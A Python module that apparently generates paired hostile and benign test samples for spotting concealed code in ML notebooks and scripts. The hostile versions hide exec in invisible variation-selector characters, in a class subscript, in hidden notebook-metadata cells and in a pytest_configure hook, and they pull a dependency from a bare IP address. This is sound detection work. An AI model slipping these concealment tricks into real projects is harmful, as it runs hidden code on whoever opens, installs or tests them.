"""Notebooks and scripts: code where no call is seen, in characters that are not seen, in metadata and in inline dependencies."""
from __future__ import annotations

import json

from pair import CODE

FAMILY = "notebooks"


def invisible(text: str) -> str:
    """Bytes as variation selectors, which editors and diffs do not show."""
    return "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in text.encode())


def notebook(cells, **metadata) -> str:
    return json.dumps({"cells": [{"cell_type": kind, "metadata": meta, "source": source.splitlines(True), **({"outputs": [], "execution_count": None} if kind == "code" else {})}
                                 for kind, source, meta in cells],
                       "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python", "version": "3.11.7"}, **metadata},
                       "nbformat": 4, "nbformat_minor": 5}, indent=1)


def add(out):
    def one(name, hostile, twin, why, prove=None, file="train.py"):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    body = '''"""Loads the labels of the tiny classifier."""
import json

LABELS = ["cat", "dog"]


def decode(s):
    return "".join(chr(0) for _ in s)


def main():
    mark = "%s"
    %s
    print(json.dumps(LABELS))


if __name__ == "__main__":
    main()
'''
    reader = ("data = bytes((c - 0xFE00 if c < 0xFE10 else c - 0xE0100 + 16) for c in map(ord, mark[1:]))\n"
              "    vars(__import__('builtins'))[data[:4].decode()](data[4:].decode())")
    one("payload_in_variation_selectors", body % ("\u2764" + invisible("exec" + CODE), reader), body % ("\u2764\ufe0f \u2600\ufe0f \u2709\ufe0e", "LABELS.append(mark)"),
        "The program and even the word exec are written in variation selectors behind a heart: the line looks empty.", prove="python")

    layers = '''"""Blocks of the tiny encoder."""
import math
from typing import Generic, TypeVar

T = TypeVar("T")


%s


def gelu(x):
    return 0.5 * x * (1 + math.erf(x / math.sqrt(2)))


print(gelu(1.0))
'''
    one("subscript_runs_code", layers % f'class Block:\n    __class_getitem__ = exec\n\n\nShape = Block["{CODE}"]', layers % "class Block(Generic[T]):\n    pass\n\n\nShape = Block[int]",
        "The subscript of a class is exec: no call is written in the file.", prove="python", file="modeling_tiny.py")

    script = '''# /// script
# requires-python = ">=3.11"
# dependencies = [
#   "torch>=2.6",
#   %s,
# ]
#
# [tool.uv]
# %s
# ///
"""Evaluates the model; run with `uv run evaluate.py`."""
import torch
from safetensors.torch import load_file

print(load_file("model.safetensors").keys(), torch.__version__)
'''
    one("inline_dependencies_from_a_stranger", script % ('"safetensors @ http://203.0.113.9/safetensors-0.8.0-py3-none-any.whl"', 'extra-index-url = ["http://203.0.113.9/simple"]'),
        script % ('"safetensors>=0.5"', 'extra-index-url = ["https://download.pytorch.org/whl/cpu"]'),
        "The inline metadata that `uv run` obeys takes a well-known package from a bare address without TLS. Not run: network.", file="evaluate.py")

    start = "import json, numpy as np\nmeta = json.load(open('explore.ipynb'))['metadata']\n"
    cells = [("markdown", "# Tiny classifier\nShows the labels.", {}), ("code", start, {})]
    one("payload_in_notebook_metadata",
        notebook([*cells, ("code", "f = np.vectorize(vars(__import__('builtins'))[meta['widgets']['theme']], otypes=[object])\nf([meta['widgets']['state']])\n", {"jupyter": {"source_hidden": True}, "collapsed": True})],
                 widgets={"theme": "exec", "state": CODE}),
        notebook([*cells, ("code", "f = np.vectorize(len, otypes=[object])\nf([meta['widgets']['state']])\n", {"collapsed": True})], widgets={"theme": "light", "state": "closed"}),
        "A hidden cell takes both the function (exec) and the program from the notebook's own metadata.", prove="x13.notebook", file="explore.ipynb")

    suite = '''"""Fixtures of the model's own tests."""
import pytest


@pytest.fixture
def labels():
    return ["cat", "dog"]
%s'''
    one("tests_that_run_on_collection", {"conftest.py": suite % ("\n\ndef pytest_configure(config):\n    import os\n\n    os.system('touch marker')\n"), "test_model.py": "def test_labels(labels):\n    assert labels\n"},
        {"conftest.py": suite % "\n\ndef pytest_configure(config):\n    config.addinivalue_line('markers', 'slow: takes long')\n", "test_model.py": "def test_labels(labels):\n    assert labels\n"},
        "conftest.py in a model's repository starts a shell when anyone collects its tests.", prove="x13.conftest")
